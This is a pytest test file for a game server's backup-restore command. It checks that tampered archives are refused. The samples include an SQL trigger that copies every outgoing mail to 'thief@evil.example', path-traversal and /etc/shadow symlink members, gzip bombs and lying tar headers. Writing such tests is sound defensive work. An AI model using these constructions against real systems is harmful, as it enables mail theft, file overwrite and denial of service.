"""A restore brings back pbm's schema and nothing else (docs/security.md, issue 25): a backup
is hostile until checked. Its database must hold exactly what pbm's migrations make (and
Litestream's two tables); its members are plain files of capped size, unpacked into a
private scratch folder only when the disk has room; a truncated or damaged archive is
refused with its cause. Whatever is refused, the home is left as it was."""

import gzip
import hashlib
import io
import sqlite3
import stat
import tarfile

import pytest
import sqlite_utils
from hypothesis import example, given, settings
from hypothesis import strategies as st

from pbm import hookimpl
from pbm.plugins import pm
from pbm.store import Store, core_migrations
from pbm.store.migrations import core_step_names
from pbm.store.schema import normalised_sql
from tests.conftest import STRESS_FACTOR
from tests.test_backup import pbm, played_home, written_backup

# --- archives as a tamperer makes them ----------------------------------------------------


def members_of(archive_path) -> dict:
    with tarfile.open(archive_path) as archive:
        return {m.name: archive.extractfile(m).read() for m in archive.getmembers()}


def packed(path, members: dict, mode="w:gz"):
    """A tar.gz of name -> bytes (or a TarInfo, written as it is)."""
    with tarfile.open(path, mode) as archive:
        for name, data in members.items():
            if isinstance(data, tarfile.TarInfo):
                archive.addfile(data)
                continue
            info = tarfile.TarInfo(name)
            info.size, info.mode = len(data), 0o600
            archive.addfile(info, io.BytesIO(data))
    return str(path)


def with_database_changed(tmp_path, archive_path, *statements) -> str:
    """The backup with SQL run on its database: what a tamperer with the file can do."""
    members = members_of(archive_path)
    database = tmp_path / "tampered.db"
    database.write_bytes(members["pbm.db"])
    conn = sqlite3.connect(database)
    for statement in statements:
        conn.execute(statement)
    conn.commit()
    conn.close()
    members["pbm.db"] = database.read_bytes()
    return packed(tmp_path / "tampered.tar.gz", members)


def home_state(home) -> dict:
    """Every file of the home with a digest of its bytes, and the database's schema and
    boards, so that a refused restore can be shown to change nothing."""
    files = {
        str(path.relative_to(home)): hashlib.sha256(path.read_bytes()).hexdigest()
        for path in sorted(home.rglob("*"))
        if path.is_file() and path.name not in ("pbm.db", "pbm.db-wal", "pbm.db-shm", "pbm.log")
    }
    conn = sqlite3.connect(home / "pbm.db")
    try:
        schema = conn.execute("SELECT type, name, sql FROM sqlite_master ORDER BY name").fetchall()
        plies = conn.execute("SELECT * FROM moves ORDER BY rowid").fetchall()
    finally:
        conn.close()
    return {"files": files, "schema": schema, "plies": plies}


@pytest.fixture
def home_and_backup(tmp_path):
    """A played home, its backup, and a move made after it: a restore that goes through
    loses that move, one that is refused keeps it."""
    home = played_home(tmp_path)
    backup = written_backup(home)
    assert pbm(home, "knightpanic", "move", "101", "bob", "secret", "g7-e3")[0] == 0
    return home, backup


def refused(home, archive, *words):
    before = home_state(home)
    code, output = pbm(home, "restore", archive)
    assert code == 1 and "not restored:" in output, output
    assert "Aborted!" not in output
    for word in words:
        assert word in output, output
    assert home_state(home) == before
    assert not [p for p in home.iterdir() if p.name.startswith(".restoring-")]
    return output


# --- the schema ---------------------------------------------------------------------------

COPY_EVERY_MAIL_OUT = """
CREATE TRIGGER copy_out AFTER INSERT ON outbox BEGIN
  INSERT INTO outbox (kind, recipients, message, status, attempts, created_at, next_attempt_at)
  VALUES (NEW.kind, '["thief@evil.example"]', NEW.message, NEW.status, 0, NEW.created_at,
          NEW.next_attempt_at);
END
"""


def test_a_backup_with_a_trigger_that_copies_every_mail_out_is_refused(tmp_path, home_and_backup):
    home, backup = home_and_backup
    evil = with_database_changed(tmp_path, backup, COPY_EVERY_MAIL_OUT)
    output = refused(home, evil, "trigger copy_out")
    assert "what pbm's migrations do not make" in output


@pytest.mark.parametrize(
    "statement,named",
    [
        ("CREATE TABLE stash (address TEXT)", "table stash"),
        ("CREATE INDEX by_password ON users (password_hash)", "index by_password"),
        ("CREATE VIEW hashes AS SELECT userid, password_hash FROM users", "view hashes"),
        (
            "CREATE TRIGGER keep_codes AFTER INSERT ON reset_codes BEGIN SELECT 1; END",
            "trigger keep_codes",
        ),
        ("ALTER TABLE users ADD COLUMN note TEXT", "table users (not as pbm's migrations"),
        ("DROP INDEX idx_addresses_address", "index idx_addresses_address (missing)"),
        (
            "CREATE TRIGGER on_litestream AFTER INSERT ON _litestream_seq BEGIN SELECT 1; END",
            "trigger on_litestream",
        ),
    ],
)
def test_any_object_the_migrations_do_not_make_is_refused_by_name(
    tmp_path, home_and_backup, statement, named
):
    home, backup = home_and_backup
    statements = [statement]
    if "_litestream_seq" in statement:
        statements.insert(0, "CREATE TABLE _litestream_seq (id INTEGER PRIMARY KEY, seq INTEGER)")
    refused(home, with_database_changed(tmp_path, backup, *statements), named)


def test_litestreams_own_tables_are_allowed_and_kept(tmp_path, home_and_backup):
    home, backup = home_and_backup
    replicated = with_database_changed(
        tmp_path,
        backup,
        "CREATE TABLE IF NOT EXISTS _litestream_seq (id INTEGER PRIMARY KEY, seq INTEGER)",
        "CREATE TABLE IF NOT EXISTS _litestream_lock (id INTEGER)",
        "INSERT INTO _litestream_seq VALUES (1, 42)",
    )
    code, output = pbm(home, "restore", replicated)
    assert code == 0, output
    conn = sqlite3.connect(home / "pbm.db")
    try:
        assert conn.execute("SELECT seq FROM _litestream_seq").fetchall() == [(42,)]
        assert conn.execute("SELECT count(*) FROM _litestream_lock").fetchone() == (0,)
    finally:
        conn.close()


def test_sqlites_own_tables_are_allowed(tmp_path, home_and_backup):
    home, backup = home_and_backup
    analysed = with_database_changed(tmp_path, backup, "ANALYZE")
    code, output = pbm(home, "restore", analysed)
    assert code == 0, output


def test_a_backup_older_than_this_pbm_passes_with_its_migrations_pending(tmp_path):
    """The reference schema is made by the migrations the backup has, not by all of them."""
    database = tmp_path / "old.db"
    db = sqlite_utils.Database(database)
    core_migrations().apply(db, stop_before="m011_robots")
    db.close()
    archive = packed(tmp_path / "old.tar.gz", {"pbm.db": database.read_bytes()})
    code, output = pbm(tmp_path / "home", "restore", archive)
    assert code == 0, output
    assert "schema: only what pbm's migrations make" in output
    names = core_step_names()
    assert f"{len(names) - names.index('m011_robots')} migrations pending" in output


class TableGame:
    """A game plugin with a migration set of its own (docs/writing-games.md)."""

    def __init__(self):
        self.migrations = sqlite_utils.Migrations("pbm-game-tables")

        @self.migrations()
        def m001_scores(db):
            db["tables_scores"].create({"userid": str, "score": int}, pk="userid")
            db["tables_scores"].create_index(["score"])

    @hookimpl
    def register_migrations(self, register):
        register(self.migrations)


@pytest.fixture
def table_game():
    plugin = TableGame()
    pm.register(plugin, name="table-game")
    try:
        yield plugin
    finally:
        pm.unregister(plugin)


def test_a_plugins_migrations_are_part_of_the_schema(tmp_path, table_game):
    home = played_home(tmp_path)
    assert pbm(home, "migrate")[0] == 0
    backup = written_backup(home)
    code, output = pbm(tmp_path / "new", "restore", backup)
    assert code == 0, output
    evil = with_database_changed(
        tmp_path, backup, "CREATE TRIGGER sneak AFTER INSERT ON tables_scores BEGIN SELECT 1; END"
    )
    refused(home, evil, "trigger sneak")


def test_a_backup_with_migrations_of_a_plugin_not_installed_is_refused(tmp_path, table_game):
    home = played_home(tmp_path)
    assert pbm(home, "migrate")[0] == 0
    backup = written_backup(home)
    pm.unregister(table_game)
    try:
        code, output = pbm(tmp_path / "new", "restore", backup)
    finally:
        pm.register(table_game, name="table-game")
    assert code == 1 and "pbm-game-tables, unknown here" in output, output
    assert not (tmp_path / "new").exists()


OBJECT_NAMES = st.from_regex(r"[a-z][a-z0-9_]{0,14}", fullmatch=True).filter(
    lambda name: not name.startswith("sqlite_")
)
_shared = {}


def shared_home_and_backup(tmp_path_factory):
    """One played home and its backup for every example: a refused restore changes
    nothing, as each example checks."""
    if not _shared:
        home = played_home(tmp_path_factory.mktemp("extra"))
        _shared.update(home=home, backup=written_backup(home))
    return _shared["home"], _shared["backup"]


@settings(max_examples=15 * STRESS_FACTOR, deadline=None)
@given(kind=st.sampled_from(["table", "index", "view", "trigger"]), name=OBJECT_NAMES)
@example(kind="table", name="if")
def test_hypothesis_any_extra_object_is_named(tmp_path_factory, kind, name):
    """Hypothesis: an extra object of any kind and name is refused, named."""
    home, backup = shared_home_and_backup(tmp_path_factory)
    conn = sqlite3.connect(home / "pbm.db")
    taken = {row[0] for row in conn.execute("SELECT name FROM sqlite_master")}
    conn.close()
    if name in taken:
        return
    quoted = f'"{name}"'  # a name may be an SQL keyword: `if`, `in`, `on`
    statement = {
        "table": f"CREATE TABLE {quoted} (x)",
        "index": f"CREATE INDEX {quoted} ON boards (created_at)",
        "view": f"CREATE VIEW {quoted} AS SELECT 1",
        "trigger": f"CREATE TRIGGER {quoted} AFTER DELETE ON users BEGIN SELECT 1; END",
    }[kind]
    evil = with_database_changed(tmp_path_factory.mktemp("evil"), backup, statement)
    refused(home, evil, f"{kind} {name}")


def outside_literals(sql: str, change) -> str:
    """change() applied to the SQL between its string literals."""
    parts = sql.split("'")
    return "'".join(change(part) if i % 2 == 0 else part for i, part in enumerate(parts))


@settings(max_examples=100 * STRESS_FACTOR, deadline=None)
@given(
    data=st.data(),
    quotes=st.sampled_from([("[", "]"), ('"', '"'), ("`", "`")]),
    space=st.sampled_from([" ", "  ", "\n   ", "\t"]),
    upper=st.booleans(),
)
def test_hypothesis_normalised_sql_ignores_layout_case_and_quoting_style(
    data, quotes, space, upper
):
    """Hypothesis: pbm's own schema, its identifiers quoted and its layout and letter case
    changed as another sqlite-utils version might, normalises to the same text; a changed
    string literal or a quoted name made bare does not."""
    conn = sqlite3.connect(":memory:")
    core_migrations().apply(sqlite_utils.Database(conn))
    statements = sorted(sql for (sql,) in conn.execute("SELECT sql FROM sqlite_master") if sql)
    conn.close()
    sql = data.draw(st.sampled_from(statements))

    def restyle(part):
        part = part.replace("[", quotes[0]).replace("]", quotes[1]).replace(" ", space)
        return part.upper() if upper else part

    assert normalised_sql(outside_literals(sql, restyle)) == normalised_sql(sql)
    if "DEFAULT '" in sql:
        assert normalised_sql(sql.replace("DEFAULT '", "DEFAULT 'x")) != normalised_sql(sql)
    if "[" in sql:
        bare = sql.replace("[", "").replace("]", "")
        assert normalised_sql(bare) != normalised_sql(sql)


# --- the archive --------------------------------------------------------------------------


def test_a_truncated_archive_is_refused_with_its_cause(tmp_path, home_and_backup):
    home, backup = home_and_backup
    data = open(backup, "rb").read()
    cut = tmp_path / "cut.tar.gz"
    cut.write_bytes(data[: len(data) // 2])
    refused(home, str(cut), "is truncated", "copy the backup again")


@pytest.mark.parametrize(
    "damage,words",
    [
        (lambda data: b"this is no gzip at all" + data, "is not a tar.gz"),
        (lambda data: data[:40] + bytes(b ^ 0x5A for b in data[40:200]) + data[200:], "damaged ("),
        (lambda data: gzip.compress(b"\x07" * 4096), "is not a tar archive"),
        (lambda data: b"", "is empty"),
    ],
)
def test_a_damaged_archive_is_refused_with_its_cause(tmp_path, home_and_backup, damage, words):
    home, backup = home_and_backup
    bad = tmp_path / "bad.tar.gz"
    bad.write_bytes(damage(open(backup, "rb").read()))
    refused(home, str(bad), words)


def special(name, kind, **fields):
    info = tarfile.TarInfo(name)
    info.type = kind
    for key, value in fields.items():
        setattr(info, key, value)
    return info


@pytest.mark.parametrize(
    "member,words",
    [
        ({"../pbm.ini": b"[server]\n"}, "'../pbm.ini' has a path outside the archive"),
        ({"/etc/pbm.ini": b"[server]\n"}, "'/etc/pbm.ini' has a path outside the archive"),
        ({"pbm.ini": special("pbm.ini", tarfile.SYMTYPE, linkname="/etc/shadow")}, "is a link"),
        ({"pbm.ini": special("pbm.ini", tarfile.LNKTYPE, linkname="pbm.db")}, "is a link"),
        ({"pbm.ini": special("pbm.ini", tarfile.CHRTYPE, devmajor=1, devminor=3)}, "is a device"),
        ({"pbm.ini": special("pbm.ini", tarfile.FIFOTYPE)}, "is a device"),
        ({"pbm.ini": special("pbm.ini", tarfile.DIRTYPE)}, "is not a plain file"),
        ({"notes.txt": b"hello"}, "'notes.txt' is no file of a pbm backup"),
    ],
)
def test_members_that_are_no_plain_file_of_a_backup_are_refused(
    tmp_path, home_and_backup, member, words
):
    home, backup = home_and_backup
    members = members_of(backup)
    members.update(member)
    archive = packed(tmp_path / "odd.tar.gz", members)
    refused(home, archive, "is not a pbm backup", words)
    assert not (tmp_path / "pbm.ini").exists() and not (home.parent / "pbm.ini").exists()


def test_a_member_given_twice_is_refused(tmp_path, home_and_backup):
    home, backup = home_and_backup
    members = members_of(backup)
    path = tmp_path / "twice.tar.gz"
    with tarfile.open(path, "w:gz") as archive:
        for name in ("pbm.db", "pbm.ini", "pbm.ini"):
            info = tarfile.TarInfo(name)
            info.size = len(members[name])
            archive.addfile(info, io.BytesIO(members[name]))
    refused(home, str(path), "'pbm.ini' comes twice")


def lying_archive(path, name, declared: int, actual: bytes):
    """A member whose header declares `declared` bytes, followed by far fewer: refused for
    its declared size, it is refused before any of its data is read."""
    info = tarfile.TarInfo(name)
    info.size, info.mode = declared, 0o600
    header = info.tobuf(format=tarfile.GNU_FORMAT)
    path.write_bytes(gzip.compress(header + actual))
    return str(path)


def test_a_member_over_its_cap_is_refused_before_it_is_unpacked(tmp_path, home_and_backup):
    home, backup = home_and_backup
    with open(home / "pbm.ini", "a") as ini:
        ini.write("[backup]\nmax_restore_megabytes = 1\n")
    bomb = lying_archive(tmp_path / "bomb.tar.gz", "pbm.db", 2 * 1024**3, b"\0" * 1024)
    output = refused(home, bomb, "pbm.db unpacks to 2147483648 bytes, more than the 1048576")
    assert "max_restore_megabytes" in output
    small = lying_archive(tmp_path / "key.tar.gz", "secret.key", 10**6, b"\0" * 10)
    refused(home, small, "secret.key unpacks to 1000000 bytes, more than the 4096")


def test_a_header_bigger_than_any_backup_has_is_refused(tmp_path, home_and_backup):
    """tarfile reads a pax header whole: one of megabytes is refused, not read."""
    home, backup = home_and_backup
    members = members_of(backup)
    path = tmp_path / "pax.tar.gz"
    with tarfile.open(path, "w:gz", format=tarfile.PAX_FORMAT) as archive:
        info = tarfile.TarInfo("pbm.db")
        info.size = len(members["pbm.db"])
        info.pax_headers = {"comment": "x" * (2 * 1024 * 1024)}
        archive.addfile(info, io.BytesIO(members["pbm.db"]))
    refused(home, str(path), "holds a header of")


def test_no_room_on_the_disk_is_refused_before_anything_is_unpacked(
    tmp_path, home_and_backup, monkeypatch
):
    """The disk as a full one answers (a real full disk is not made in a test): the
    restore says how much it needs and writes nothing."""
    import shutil as real_shutil

    from pbm import backup as backup_module

    home, backup = home_and_backup
    size = len(members_of(backup)["pbm.db"])
    disk = real_shutil.disk_usage(home)

    class AlmostFull:
        @staticmethod
        def disk_usage(path):
            return type(disk)(disk.total, disk.total - 10 * 1024 * 1024, 10 * 1024 * 1024)

    monkeypatch.setattr(backup_module, "shutil", AlmostFull)
    output = refused(home, backup, "free disk space first", "which has 10.0 MB")
    assert f"pbm.db unpacks to {size / 2**20:.1f} MB" in output


def test_a_backup_whose_pbm_ini_pbm_would_refuse_is_refused(tmp_path, home_and_backup):
    home, backup = home_and_backup
    members = members_of(backup)
    members["pbm.ini"] = b"[smtp]\nhost = relay.evil.example\nport = lots\n"
    refused(home, packed(tmp_path / "ini.tar.gz", members), "pbm.ini cannot be used")


def test_a_refused_restore_into_a_new_home_leaves_no_home(tmp_path, home_and_backup):
    _, backup = home_and_backup
    evil = with_database_changed(tmp_path, backup, COPY_EVERY_MAIL_OUT)
    code, output = pbm(tmp_path / "fresh", "restore", evil)
    assert code == 1 and "trigger copy_out" in output
    assert not (tmp_path / "fresh").exists()


def test_backup_members_are_private_and_a_database_over_the_cap_is_warned_of(tmp_path):
    home = played_home(tmp_path)
    with tarfile.open(written_backup(home)) as archive:
        assert {m.name: stat.S_IMODE(m.mode) for m in archive.getmembers()} == {
            "pbm.db": 0o600,
            "pbm.ini": 0o600,
            "secret.key": 0o600,
        }
    store = Store.open(home / "pbm.db")
    try:
        store.conn.execute(
            "UPDATE users SET password_hash = ? WHERE userid = 'alice'", ["x" * 2**21]
        )
    finally:
        store.close()
    with open(home / "pbm.ini", "a") as ini:
        ini.write("[backup]\nmax_restore_megabytes = 1\n")
    code, output = pbm(home, "backup")
    assert code == 0
    assert "is bigger than [backup] max_restore_megabytes = 1" in output


def test_a_gzip_bomb_is_refused_at_its_header(tmp_path, home_and_backup):
    """The archive of the issue: a few megabytes that unpack to 2 GB of database (make
    stress; 200 MB against a cap of 100 in make test)."""
    home, _ = home_and_backup
    if STRESS_FACTOR == 1:
        with open(home / "pbm.ini", "a") as ini:
            ini.write("[backup]\nmax_restore_megabytes = 100\n")
    size, chunk = 2 * 1024**3 // (10 // STRESS_FACTOR), b"\0" * (1 << 20)
    path = tmp_path / "bomb.tar.gz"
    with open(path, "wb") as raw, gzip.GzipFile(fileobj=raw, mode="wb", compresslevel=9) as out:
        info = tarfile.TarInfo("pbm.db")
        info.size, info.mode = size, 0o600
        out.write(info.tobuf(format=tarfile.GNU_FORMAT))
        for _ in range(size // len(chunk)):
            out.write(chunk)
        out.write(b"\0" * (2 * tarfile.RECORDSIZE))
    output = refused(home, str(path), f"pbm.db unpacks to {size} bytes")
    print(
        f"\nbomb: a {path.stat().st_size // 1024} KB archive of {size >> 20} MB: {output.strip()}"
    )
